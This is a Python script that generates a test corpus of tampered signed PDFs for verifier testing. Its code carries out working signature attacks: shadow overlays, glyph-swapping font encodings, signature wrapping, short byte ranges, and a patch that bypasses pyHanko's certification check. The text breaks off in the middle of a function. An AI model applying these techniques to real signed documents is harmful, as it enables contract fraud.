#!/usr/bin/env python3
"""Builds the signed-PDF attack corpus that `catool pdf verify` and pyHanko must both judge.

usage:
  make_corpus.py base OUT.pdf
  make_corpus.py base-inherited OUT.pdf
  make_corpus.py base-prepared VARIANT OUT.pdf
  make_corpus.py attacks --approval A.pdf --certified C.pdf --p12 SIGNER.p12 \
      --p12-password-file PW --out DIR [--ca CA.pem] \
      [--inherited-approval A2.pdf --inherited-certified C2.pdf] [--prepared-dir DIR]

`base` writes the unsigned base document byte by byte (classic xref table, no compression,
no object streams):

  1 catalog (/AcroForm 3 0 R)          8  page 1 content  "Contract total: 100 CNY"
  2 page tree (2 pages, A4)            9  page 2 content  "Page 2" + a clause hidden under 12
  3 AcroForm (one field: amount)       10 text field `amount` (/V (100)) merged with its widget
  4 page 1 (/Resources 7 0 R,          11 the widget's appearance stream ("100")
    /Annots [10 0 R])                  12 /Square annotation on page 2: the overlay
  5 page 2 (/Annots [12 0 R])          13 the overlay's appearance: an opaque white box
  6 font Helvetica (indirect)          14 unreferenced content stream: page 1 with
  7 page 1 /Resources (indirect)          "Contract total: 900000 CNY" (the prepared shadow)

`base-inherited` writes the same document except that neither page has /Resources of its own:
both inherit /Resources 7 0 R from the page tree node (object 2). The font (6) stays shared
with the `amount` widget's appearance.

`attacks` writes into DIR, each attack ONE incremental update appended by raw byte writing to
a signed file (new objects + one classic xref section listing exactly the objects the update
defines, plus entry 0 when it frees objects + a trailer with /Prev, /Root, /Size; the earlier
bytes untouched): page content replaced / swapped, shadow hide / replace / hide-and-replace,
redefined and freed signed objects, signature wrapping, catalog JavaScript, an added
annotation, a filled form field. Besides: short_coverage.pdf (a signature made here on the
base whose /ByteRange leaves 200 bytes of its own revision unsigned), the base certified by
pyHanko with P=1, 2, 3 (and attacks on those), and second signatures added by pyHanko.
Then the red team's second round (red_team_cases), each on A.pdf and C.pdf (`_approval`,
`_certified`), some on pyHanko's P=1/P=2 certifications: a signed object given an allowed
role first (catalog /Metadata or trailer /Info pointed at it, a new signature field adopting a
signed annotation) and changed next, updates without a proper %%EOF, ambiguous xref sections
(an entry aliasing a signed object's text, an object listed twice, an object stream holding
one object twice), xref-stream and object-stream updates, hybrid-reference updates, odd
structure (generation 1, /Prev into the signed xref, an object after the trailer, %%EOF inside
a stream), an orphan widget painting over the page, legitimate pypdf form fill and metadata
updates, and (with --inherited-approval/--inherited-certified, the base-inherited document
signed by catool) a font the pages reach only through inherited /Resources. Some of these
are two updates, or written with an xref stream, or by pypdf; the note says so.
The third round (rt2_cases, prepared_cases; names rt2_*): duplicate keys, an object no xref
lists, a dictionary turned into a stream, and (with --prepared-dir: every `base-prepared
VARIANT` document signed by catool as prepared_VARIANT_A.pdf and prepared_VARIANT_C.pdf)
attacks on prepared bases, some also on the prepared base certified by pyHanko with P=1.
DIR/manifest.json lists every file:
  {"file", "attack", "expect": "valid"|"invalid", "names", "note", "signatures",
   "pyhanko_verdict", "pyhanko_fooled", ["pyhanko_differs"], ["pyhanko_cli_refuses"],
   "pyhanko": [one pyhanko_verdict.py line per signature], "pyhanko_cli_exit"}
"expect" is the verdict for "signatures", the signature(s) that existed before the attack;
"names" a lowercase phrase the verifier's report should contain ("" when nothing in
particular); "pyhanko_verdict" what pyHanko says for "signatures" (trust root: --ca, or the
self-signed certificate in the PKCS#12, written to DIR/ca.pem). Where the brief left the
verdict to pyHanko, "expect" is pyHanko's verdict and "note" says so; where pyHanko disagrees
with the brief's expectation, "expect" keeps the brief's and "note" says DISAGREEMENT (also
printed on stderr), unless the case gives the reason ("pyhanko_differs"). "pyhanko_fooled" is
true when pyHanko says valid although "expect" is invalid (the document changed).
"pyhanko_cli_refuses" says why pyHanko's CLI rejects the file whatever its API says.
"pyhanko_cli_exit" is the exit code of `pyhanko sign validate --no-revocation-check
--trust-replace --trust CA FILE`, the command users run, invoked in this process through its
own entry point (pyhanko.cli.cli_root, as the `pyhanko` executable does): the same code and
arguments, without a Python start and pyHanko import per file (some 1.5 s each, 170 files).
judge.py runs pyHanko and catool over the corpus.
Every pyHanko disagreement with the expectation of the brief is in "note" and printed.
"""
from __future__ import annotations

import argparse
import hashlib
import io
import json
import re
import sys
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent

# ---------------------------------------------------------------------------------------
# Raw PDF writing
# ---------------------------------------------------------------------------------------


def stream_obj(dict_body: bytes, data: bytes) -> bytes:
    """An uncompressed stream object body (without `N 0 obj`)."""
    return (
        b"<< " + dict_body + b" /Length " + str(len(data)).encode() + b" >>\nstream\n"
        + data + b"\nendstream"
    )


def pdf_string(text: str) -> bytes:
    """A literal string (ASCII only here)."""
    esc = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + esc.encode("latin-1") + b")"


def xref_section(entries: dict[int, tuple[int, int, str]]) -> bytes:
    """A classic xref section: `xref`, then one subsection per run of consecutive numbers.
    entries: object number -> (offset or next free, generation, 'n' or 'f')."""
    out = [b"xref\n"]
    nums = sorted(entries)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out.append(f"{nums[i]} {j - i + 1}\n".encode())
        for n in nums[i : j + 1]:
            off, gen, kind = entries[n]
            out.append(f"{off:010d} {gen:05d} {kind}\r\n".encode())
        i = j + 1
    return b"".join(out)


def page_text(lines: list[tuple[int, int, int, str]]) -> bytes:
    """Content stream drawing `(size, x, y, text)` lines in /F1, black."""
    ops = []
    for size, x, y, text in lines:
        ops.append(b"BT /F1 %d Tf 0 g %d %d Td " % (size, x, y) + pdf_string(text) + b" Tj ET")
    return b"\n".join(ops)


PAGE1_LINES = [
    (24, 72, 760, "Contract total: 100 CNY"),
    (12, 72, 700, "Amount (CNY):"),
    (10, 72, 640, "Signed by the buyer below."),
]
PAGE1_SHADOW_LINES = [
    (24, 72, 760, "Contract total: 900000 CNY"),
    (12, 72, 700, "Amount (CNY):"),
    (10, 72, 640, "Signed by the buyer below."),
]
PAGE2_LINES = [
    (24, 72, 760, "Page 2"),
    (12, 72, 700, "Terms: payment within 30 days."),
    # Hidden by the white /Square overlay (annotation 12, rect 60 640 540 672): the
    # signer sees a blank band; removing the overlay shows the clause.
    (14, 72, 650, "Late fee: 900000 CNY per day of delay."),
]
OVERLAY_RECT = (60, 640, 540, 672)
WIDGET_RECT = (170, 694, 320, 716)
WIDGET_AP = b"/Tx BMC q BT /Helv 12 Tf 0 g 2 6 Td (100) Tj ET Q EMC"


def base_pdf(inherited: bool = False) -> bytes:
    """The unsigned base. With `inherited`, the same document except that neither page has
    /Resources of its own: both inherit /Resources 7 0 R from the page tree node (object 2),
    as ISO 32000 allows and some generators do; font 6 stays shared with the `amount`
    widget's appearance."""
    w, h = WIDGET_RECT[2] - WIDGET_RECT[0], WIDGET_RECT[3] - WIDGET_RECT[1]
    ow, oh = OVERLAY_RECT[2] - OVERLAY_RECT[0], OVERLAY_RECT[3] - OVERLAY_RECT[1]
    rect = lambda r: ("[%d %d %d %d]" % r).encode()  # noqa: E731
    objs: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>",
        2: b"<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>",
        3: b"<< /Fields [10 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 7 0 R"
        b" /Contents 8 0 R /Annots [10 0 R] >>",
        5: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Resources << /Font << /F1 6 0 R >> >> /Contents 9 0 R /Annots [12 0 R] >>",
        6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        7: b"<< /Font << /F1 6 0 R >> /ProcSet [/PDF /Text] >>",
        8: stream_obj(b"", page_text(PAGE1_LINES)),
        9: stream_obj(b"", page_text(PAGE2_LINES)),
        10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /DA (/Helv 12 Tf 0 g)"
        b" /Rect " + rect(WIDGET_RECT) + b" /P 4 0 R /F 4 /MK << /BC [0 0 0] >>"
        b" /AP << /N 11 0 R >> >>",
        11: stream_obj(
            b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d]"
            b" /Resources << /Font << /Helv 6 0 R >> >>" % (w, h),
            WIDGET_AP,
        ),
        12: b"<< /Type /Annot /Subtype /Square /Rect " + rect(OVERLAY_RECT)
        + b" /F 4 /C [1 1 1] /IC [1 1 1] /BS << /W 0 >> /P 5 0 R /NM (overlay)"
        b" /AP << /N 13 0 R >> >>",
        13: stream_obj(
            b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d]" % (ow, oh),
            b"q 1 g 0 0 %d %d re f Q" % (ow, oh),
        ),
        14: stream_obj(b"", page_text(PAGE1_SHADOW_LINES)),
        15: b"<< /Producer (catool attack corpus make_corpus.py) /Title (Attack corpus base) >>",
    }
    if inherited:
        objs[2] = b"<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 /Resources 7 0 R >>"
        objs[4] = objs[4].replace(b" /Resources 7 0 R", b"")
        objs[5] = objs[5].replace(b" /Resources << /Font << /F1 6 0 R >> >>", b"")
        assert b"/Resources" not in objs[4] + objs[5]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(objs) + 1
    xref_at = len(out)
    entries = {0: (0, 65535, "f")}
    entries.update({n: (off, 0, "n") for n, off in offsets.items()})
    out += xref_section(entries)
    doc_id = hashlib.md5(bytes(out)).hexdigest().encode()
    out += (
        b"trailer\n<< /Size %d /Root 1 0 R /Info 15 0 R /ID [<%s> <%s>] >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, doc_id, doc_id, xref_at)
    )
    return bytes(out)



# ---------------------------------------------------------------------------------------
# Incremental updates on an existing file
# ---------------------------------------------------------------------------------------


def ser(obj) -> bytes:
    """pypdf object (not a stream) -> PDF syntax; indirect references stay `N G R`, strings
    of printable ASCII stay literal strings (pypdf would octal-escape '.', ':', '_' ...)."""
    from pypdf.generic import (
        ArrayObject,
        ByteStringObject,
        DictionaryObject,
        IndirectObject,
        NameObject,
        StreamObject,
        TextStringObject,
    )

    if isinstance(obj, IndirectObject):
        return b"%d %d R" % (obj.idnum, obj.generation)
    if isinstance(obj, StreamObject):
        raise ValueError("streams are written with stream_obj()")
    if isinstance(obj, DictionaryObject):
        return b"<< " + b" ".join(ser(NameObject(k)) + b" " + ser(obj.raw_get(k)) for k in obj) + b" >>"
    if isinstance(obj, ArrayObject):
        return b"[" + b" ".join(ser(x) for x in obj) + b"]"
    if isinstance(obj, (TextStringObject, ByteStringObject)):
        raw = obj.original_bytes if isinstance(obj, TextStringObject) else bytes(obj)
        if all(32 <= b < 127 for b in raw):
            return pdf_string(raw.decode("ascii"))
        return b"<" + raw.hex().upper().encode() + b">"
    buf = io.BytesIO()
    obj.write_to_stream(buf)
    return buf.getvalue()


def ref_num(obj) -> int:
    """Object number of an IndirectObject or of a resolved object read through one."""
    from pypdf.generic import IndirectObject

    if isinstance(obj, IndirectObject):
        return obj.idnum
    return obj.indirect_reference.idnum


class Pdf:
    """The latest revision of a file to append to (read with pypdf, never rewritten)."""

    def __init__(self, data: bytes):
        import pypdf

        self.data = data
        self.reader = pypdf.PdfReader(io.BytesIO(data), strict=False)
        eof = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF", data))
        if not eof:
            raise SystemExit("no startxref/%%EOF at the end of the input")
        self.prev_startxref = int(eof[-1].group(1))
        t = self.reader.trailer
        self.root_ref = t.raw_get("/Root")
        self.info_ref = t.raw_get("/Info") if "/Info" in t else None
        self.ids = t.get("/ID")
        self.size = int(t["/Size"])

    def obj(self, num: int):
        return self.reader.get_object(num)

    @property
    def root(self):
        return self.reader.trailer["/Root"]

    def page_num(self, index: int) -> int:
        return self.reader.pages[index].indirect_reference.idnum

    def page(self, index: int):
        return self.reader.pages[index]

    def fields(self) -> list[tuple[int, object]]:
        """(object number, field dict) of every top-level AcroForm field."""
        out = []
        for r in self.root["/AcroForm"].get_object().raw_get("/Fields").get_object():
            out.append((ref_num(r), r.get_object()))
        return out

    def field(self, name: str) -> tuple[int, object]:
        for num, f in self.fields():
            if f.get("/T") == name:
                return num, f
        raise SystemExit(f"no field {name!r}")

    def sig_fields(self) -> list[tuple[int, object]]:
        return [(n, f) for n, f in self.fields() if f.get("/FT") == "/Sig" and "/V" in f]

    def contents_num(self, page_index: int) -> int:
        c = self.page(page_index).raw_get("/Contents")
        if not hasattr(c, "idnum"):
            raise SystemExit(f"page {page_index + 1} /Contents is not a single indirect stream")
        return c.idnum


def dict_with(d, changes: dict[str, bytes | None]) -> bytes:
    """`d` (a pypdf dictionary) re-serialized with some entries replaced (raw PDF syntax),
    added, or removed (None); the other values are copied as they are (references stay
    references)."""
    from pypdf.generic import NameObject

    parts = []
    for k in d.keys():
        if k in changes:
            continue
        parts.append(ser(NameObject(k)) + b" " + ser(d.raw_get(k)))
    for k, v in changes.items():
        if v is not None:
            parts.append(k.encode() + b" " + v)
    return b"<< " + b"\n   ".join(parts) + b" >>"


def array_with(arr, extra: list[bytes]) -> bytes:
    return b"[" + b" ".join([ser(x) for x in arr] + extra) + b"]"


class Update:
    """One incremental update: new objects and redefinitions, one classic xref section that
    lists exactly them (plus entry 0 when the update frees objects, as the free list head),
    a trailer with /Prev; the previous bytes are kept as they are."""

    def __init__(self, pdf: Pdf):
        self.pdf = pdf
        self.objs: dict[int, bytes] = {}
        self.freed: list[int] = []
        self.next_num = pdf.size
        self.late: dict[int, bytes] = {}  # written after the trailer (short_coverage)
        self.info: bytes | None = None  # a new trailer /Info value (default: the previous one)

    def new(self, body: bytes) -> int:
        num = self.next_num
        self.next_num += 1
        self.objs[num] = body
        return num

    def redefine(self, num: int, body: bytes) -> None:
        self.objs[num] = body

    def free(self, num: int) -> None:
        self.freed.append(num)

    def bytes(self) -> bytes:
        out = bytearray(self.pdf.data)
        if not out.endswith(b"\n"):
            out += b"\n"
        entries: dict[int, tuple[int, int, str]] = {}
        for num in sorted(self.objs):
            entries[num] = (len(out), 0, "n")
            out += b"%d 0 obj\n" % num + self.objs[num] + b"\nendobj\n"
        if self.freed:
            chain = sorted(self.freed)
            entries[0] = (chain[0], 65535, "f")
            for i, num in enumerate(chain):
                nxt = chain[i + 1] if i + 1 < len(chain) else 0
                entries[num] = (nxt, 1, "f")
        # Objects placed after the trailer get their offsets now (their length is known).
        late_blob = bytearray()
        late_offsets = {}
        xref_at = len(out)
        # Lay out xref + trailer first with placeholder offsets of the same width.
        for num in self.late:
            entries[num] = (0, 0, "n")
        trailer = self._trailer()
        xref_len = len(xref_section(entries)) + len(trailer)
        for num, body in self.late.items():
            late_offsets[num] = xref_at + xref_len + len(late_blob)
            late_blob += b"%d 0 obj\n" % num + body + b"\nendobj\n"
            entries[num] = (late_offsets[num], 0, "n")
        out += xref_section(entries) + trailer + late_blob
        out += b"startxref\n%d\n%%%%EOF\n" % xref_at
        return bytes(out)

    def _trailer(self) -> bytes:
        p = self.pdf
        size = max([self.next_num, p.size] + [n + 1 for n in self.objs] + [n + 1 for n in self.late])
        t = b"trailer\n<< /Size %d /Root %s" % (size, ser(p.root_ref))
        if self.info is not None:
            t += b" /Info " + self.info
        elif p.info_ref is not None:
            t += b" /Info " + ser(p.info_ref)
        if p.ids is not None:
            t += b" /ID " + ser(p.ids)
        return t + b" /Prev %d >>\n" % p.prev_startxref


# ---------------------------------------------------------------------------------------
# The attacks (each returns the new file's bytes)
# ---------------------------------------------------------------------------------------

SHADOW_CONTENT_OBJ = 14  # the base's unreferenced, prepared page-1 content


def attack_replace_page1_content(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    u.redefine(pdf.contents_num(0), stream_obj(b"", page_text(PAGE1_SHADOW_LINES)))
    return u.bytes()


def attack_swap_page1_contents(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    new = u.new(stream_obj(b"", page_text(PAGE1_SHADOW_LINES)))
    u.redefine(pdf.page_num(0), dict_with(pdf.page(0), {"/Contents": b"%d 0 R" % new}))
    return u.bytes()


def overlay_ap_num(pdf: Pdf) -> int:
    for a in pdf.page(1)["/Annots"]:
        a = a.get_object()
        if a.get("/Subtype") == "/Square":
            return ref_num(a["/AP"].raw_get("/N"))
    raise SystemExit("no /Square overlay on page 2")


def attack_shadow_hide(data: bytes) -> bytes:
    pdf = Pdf(data)
    num = overlay_ap_num(pdf)
    old = pdf.obj(num)
    u = Update(pdf)
    u.redefine(
        num,
        b"<< /Type /XObject /Subtype /Form /BBox " + ser(old["/BBox"]) + b" /Length 0 >>\n"
        b"stream\n\nendstream",
    )
    return u.bytes()


def font_num(pdf: Pdf) -> int:
    return ref_num(pdf.page(0)["/Resources"]["/Font"].raw_get("/F1"))


# '1' (code 49) drawn with the glyph of '9': "100 CNY" reads "900 CNY", on the page and in the
# `amount` widget, with not one content stream changed.
FONT_DIFFERENCES = b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >>"


def attack_shadow_replace(data: bytes) -> bytes:
    pdf = Pdf(data)
    num = font_num(pdf)
    u = Update(pdf)
    u.redefine(num, dict_with(pdf.obj(num), {"/Encoding": FONT_DIFFERENCES}))
    return u.bytes()


def attack_shadow_hide_and_replace(data: bytes) -> bytes:
    pdf = Pdf(data)
    shadow = pdf.obj(SHADOW_CONTENT_OBJ)
    if b"900000" not in shadow.get_data():
        raise SystemExit(f"object {SHADOW_CONTENT_OBJ} is not the prepared shadow content")
    u = Update(pdf)
    u.redefine(
        pdf.page_num(0), dict_with(pdf.page(0), {"/Contents": b"%d 0 R" % SHADOW_CONTENT_OBJ})
    )
    return u.bytes()


def attack_redefine_resources(data: bytes) -> bytes:
    """Page 1's own indirect /Resources (object 7) redefined: /F1 is now a new font object
    (Courier, '1' drawn as '9')."""
    pdf = Pdf(data)
    res = pdf.page(0).raw_get("/Resources")
    if not hasattr(res, "idnum"):
        raise SystemExit("page 1 /Resources is not indirect")
    u = Update(pdf)
    font = u.new(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding " + FONT_DIFFERENCES + b" >>"
    )
    u.redefine(
        res.idnum,
        dict_with(res.get_object(), {"/Font": b"<< /F1 %d 0 R >>" % font}),
    )
    return u.bytes()


def attack_free_page1_content(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    u.free(pdf.contents_num(0))
    return u.bytes()


def attack_signature_wrapping(data: bytes) -> bytes:
    pdf = Pdf(data)
    (num, field), *_ = pdf.sig_fields()
    sig = field["/V"]
    br = [int(x) for x in sig["/ByteRange"]]
    contents_raw = data[br[1] : br[2]]  # `<hex>` exactly as signed around
    if not (contents_raw.startswith(b"<") and contents_raw.endswith(b">")):
        raise SystemExit("the byte range gap is not the /Contents hex string")
    br_raw = re.search(rb"/ByteRange\s*\[[^\]]*\]", data[: br[1]][-2000:]).group(0)
    u = Update(pdf)
    keep = {k: ser(sig.raw_get(k)) for k in ("/Type", "/Filter", "/SubFilter", "/M") if k in sig}
    body = b"<< " + b" ".join(k.encode() + b" " + v for k, v in keep.items())
    body += b" /Reason (wrapped) " + br_raw + b" /Contents " + contents_raw + b" >>"
    new = u.new(body)
    u.redefine(num, dict_with(field, {"/V": b"%d 0 R" % new}))
    return u.bytes()


def attack_catalog_js(data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    js = b"<< /S /JavaScript /JS (app.alert\\('Contract total: 900000 CNY'\\);) >>"
    u.redefine(ref_num(pdf.root_ref), dict_with(pdf.root, {"/OpenAction": js}))
    return u.bytes()


def attack_add_annotation(data: bytes) -> bytes:
    """A /FreeText annotation on page 1 ("Amended: 900000 CNY", red), with its appearance."""
    pdf = Pdf(data)
    u = Update(pdf)
    rect = (330, 750, 560, 780)
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    ap = u.new(
        stream_obj(
            b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helv %d 0 R >> >>"
            % (w, h, font_num(pdf)),
            b"q 1 0 0 rg BT /Helv 14 Tf 4 9 Td (Amended: 900000 CNY) Tj ET Q",
        )
    )
    annot = u.new(
        b"<< /Type /Annot /Subtype /FreeText /Rect [%d %d %d %d] /Contents (Amended: 900000 CNY)"
        b" /DA (/Helv 14 Tf 1 0 0 rg) /F 4 /P %d 0 R /NM (amended) /M (D:20260101000000Z)"
        b" /AP << /N %d 0 R >> >>" % (*rect, pdf.page_num(0), ap)
    )
    page = pdf.page(0)
    annots = page.raw_get("/Annots")
    if hasattr(annots, "idnum"):  # an indirect /Annots array: redefine the array
        u.redefine(annots.idnum, array_with(annots.get_object(), [b"%d 0 R" % annot]))
    else:
        u.redefine(
            pdf.page_num(0), dict_with(page, {"/Annots": array_with(annots, [b"%d 0 R" % annot])})
        )
    return u.bytes()


def attack_form_fill(data: bytes, value: str = "900000") -> bytes:
    """Field `amount`: /V (900000) and a new appearance stream (what a form filler writes)."""
    pdf = Pdf(data)
    num, field = pdf.field("amount")
    old_ap = field["/AP"]["/N"]
    u = Update(pdf)
    ap = u.new(
        stream_obj(
            b"/Type /XObject /Subtype /Form /BBox " + ser(old_ap["/BBox"])
            + b" /Resources " + ser(old_ap.raw_get("/Resources")),
            b"/Tx BMC q BT /Helv 12 Tf 0 g 2 6 Td " + pdf_string(value) + b" Tj ET Q EMC",
        )
    )
    u.redefine(num, dict_with(field, {"/V": pdf_string(value), "/AP": b"<< /N %d 0 R >>" % ap}))
    return u.bytes()


def load_p12(p12: Path, password_file: Path):
    from cryptography.hazmat.primitives.serialization import pkcs12

    password = password_file.read_bytes().strip()
    key, cert, extra = pkcs12.load_key_and_certificates(p12.read_bytes(), password)
    if key is None or cert is None:
        raise SystemExit(f"{p12}: no key or certificate")
    return key, cert, list(extra or []), password


SIG_RESERVED = 8192  # bytes of CMS room in /Contents (hex: twice that)
BR_WIDTH = 48


def attack_short_coverage(base: bytes, key, cert, extra_certs, gap: int = 200) -> bytes:
    """Starting from the unsigned base: a signature field + signature dictionary whose
    /ByteRange second range stops `gap` bytes before its revision's %%EOF line; the CMS
    (adbe.pkcs7.detached, SHA-256, made here with `cryptography`) is genuine over exactly those
    ranges. The update rewrites the Info dictionary after the trailer (a harmless object the
    signed xref table points at): the unsigned tail holds most of it and the startxref line,
    so anyone can change the document title, or the startxref, without breaking the CMS."""
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.serialization import pkcs7

    pdf = Pdf(base)
    u = Update(pdf)
    sig = u.new(
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached"
        b" /ByteRange [" + b" " * BR_WIDTH + b"] /M (D:20260101000000Z) /Reason (short coverage)"
        b" /Contents <" + b"0" * (2 * SIG_RESERVED) + b"> >>"
    )
    page = pdf.page(0)
    fld = u.new(
        b"<< /FT /Sig /T (ShortCoverage) /V %d 0 R /Type /Annot /Subtype /Widget /F 132"
        b" /Rect [0 0 0 0] /P %d 0 R >>" % (sig, pdf.page_num(0))
    )
    u.redefine(
        pdf.page_num(0),
        dict_with(page, {"/Annots": array_with(page.get("/Annots", []), [b"%d 0 R" % fld])}),
    )
    form_ref = pdf.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    u.redefine(
        ref_num(form_ref),
        dict_with(form, {"/Fields": array_with(form["/Fields"], [b"%d 0 R" % fld]), "/SigFlags": b"3"}),
    )
    info_num = ref_num(pdf.info_ref)
    info = pdf.obj(info_num)
    title = "Contract - this Info dictionary and the startxref line are outside the signature"
    u.late[info_num] = dict_with(
        info,
        {"/Title": pdf_string(title), "/Keywords": pdf_string("unsigned " + "." * (gap + 20))},
    )
    data = bytearray(u.bytes())

    placeholder = b"<" + b"0" * (2 * SIG_RESERVED) + b">"
    l1 = data.index(placeholder)
    start2 = l1 + len(placeholder)
    eof_line = data.rindex(b"%%EOF")
    end2 = eof_line - gap
    info_at = data.rindex(b"\n%d 0 obj" % info_num) + 1
    assert info_at < end2 < eof_line, "the gap must fall in the late Info object + startxref"
    byte_range = b"0 %d %d %d" % (l1, start2, end2 - start2)
    br_at = data.index(b"/ByteRange [" + b" " * BR_WIDTH + b"]") + len(b"/ByteRange [")
    data[br_at : br_at + BR_WIDTH] = byte_range.ljust(BR_WIDTH)

    signed = bytes(data[:l1]) + bytes(data[start2:end2])
    builder = pkcs7.PKCS7SignatureBuilder().set_data(signed).add_signer(cert, key, hashes.SHA256())
    for c in extra_certs:
        builder = builder.add_certificate(c)
    cms = builder.sign(
        serialization.Encoding.DER,
        [pkcs7.PKCS7Options.DetachedSignature, pkcs7.PKCS7Options.Binary],
    )
    hexed = cms.hex().upper().encode()
    assert len(hexed) <= 2 * SIG_RESERVED
    data[l1 + 1 : l1 + 1 + len(hexed)] = hexed
    return bytes(data)


def pyhanko_sign(
    data: bytes, p12: Path, password: bytes, field: str, certify=False, perm=None,
    ignore_docmdp=False,
) -> bytes:
    """Signs `data` with pyHanko (PAdES B-B, SHA-256, invisible field `field`). With
    ignore_docmdp, pyHanko's own refusal to sign a P=1 document is switched off (it raises
    "Author signature forbids all changes"): the attacker's tool would not ask."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter
    from pyhanko.sign.signers import pdf_signer

    signer = signers.SimpleSigner.load_pkcs12(str(p12), passphrase=password)
    if signer is None:
        raise SystemExit(f"pyHanko cannot load {p12}")
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        subfilter=SigSeedSubFilter.PADES,
        md_algorithm="sha256",
        certify=certify,
        docmdp_permissions=perm if perm is not None else MDPPerm.FILL_FORMS,
    )
    original = pdf_signer.PdfSigner._enforce_certification_constraints
    if ignore_docmdp:
        pdf_signer.PdfSigner._enforce_certification_constraints = lambda self, reader: None
    try:
        writer = IncrementalPdfFileWriter(io.BytesIO(data))
        out = io.BytesIO()
        signers.sign_pdf(writer, meta, signer=signer, output=out)
    finally:
        pdf_signer.PdfSigner._enforce_certification_constraints = original
    return out.getvalue()


# ---------------------------------------------------------------------------------------
# Second round: the red team's attacks (object roles, revision boundaries, cross-reference
# sections and streams, hybrid files, form widgets, inherited resources) and two legitimate
# pypdf workflows. Unless said otherwise each is one or two incremental updates appended to a
# signed file, written byte by byte; the signed bytes are untouched.
# ---------------------------------------------------------------------------------------

OPEN_ACTION_JS = b"<< /S /JavaScript /JS (app.alert\\('900000'\\);) >>"
EMPTY_FORM = b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream"


def raw_tail(pdf: Pdf, size: int, xref_at: int, prev: int | None = None, extra: bytes = b"",
             info: bool = True) -> bytes:
    """`trailer << ... >> startxref %%EOF` for a hand-built classic section at `xref_at`."""
    t = b"trailer\n<< /Size %d /Root %s" % (size, ser(pdf.root_ref))
    if info and pdf.info_ref is not None:
        t += b" /Info " + ser(pdf.info_ref)
    if info and pdf.ids is not None:
        t += b" /ID " + ser(pdf.ids)
    t += b" /Prev %d" % (pdf.prev_startxref if prev is None else prev)
    if extra:
        t += b" " + extra
    return t + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref_at


def signed_offset(pdf: Pdf, num: int) -> int:
    """Offset of `num 0 obj` in the file, as the latest xref says (checked)."""
    off = pdf.reader.xref[0][num]
    if not pdf.data[off:].startswith(b"%d 0 obj" % num):
        raise SystemExit(f"object {num}: the xref offset does not hold its text")
    return off


def page1_on_shadow(pdf: Pdf) -> bytes:
    """Page 1's dictionary with /Contents pointing at the prepared shadow content (14)."""
    return dict_with(pdf.page(0), {"/Contents": b"%d 0 R" % SHADOW_CONTENT_OBJ})


def xref_stream_update(data: bytes, objs: dict[int, bytes], compressed=()) -> bytes:
    """One incremental update whose cross-reference section is a STREAM (/Type /XRef, W [1 4 2],
    Flate): `objs` are written as plain objects, `compressed` ((num, body) pairs) go into one
    new object stream."""
    pdf = Pdf(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    entries: dict[int, tuple[int, int, int]] = {}
    for num, body in sorted(objs.items()):
        entries[num] = (1, len(out), 0)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    nxt = max([pdf.size] + [n + 1 for n in objs] + [n + 1 for n, _ in compressed])
    if compressed:
        objstm, nxt = nxt, nxt + 1
        header = payload = b""
        for i, (num, body) in enumerate(compressed):
            header += b"%d %d " % (num, len(payload))
            payload += body + b"\n"
            entries[num] = (2, objstm, i)
        entries[objstm] = (1, len(out), 0)
        out += b"%d 0 obj\n" % objstm + stream_obj(
            b"/Type /ObjStm /N %d /First %d" % (len(compressed), len(header)), header + payload
        ) + b"\nendobj\n"
    xref_num, nxt = nxt, nxt + 1
    xref_at = len(out)
    entries[xref_num] = (1, xref_at, 0)
    out += b"%d 0 obj\n" % xref_num + xref_stream_obj(pdf, entries, nxt) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def xref_stream_obj(pdf: Pdf, entries: dict[int, tuple[int, int, int]], size: int,
                    trailer: bool = True, flate: bool = True) -> bytes:
    """A cross-reference stream object body; `entries`: num -> (type, field 2, field 3).
    Without `trailer` it carries no /Root, /Info, /ID, /Prev (the XRefStm of a hybrid file)."""
    import struct
    import zlib

    nums = sorted(entries)
    rows = b"".join(struct.pack(">BIH", *entries[n]) for n in nums)
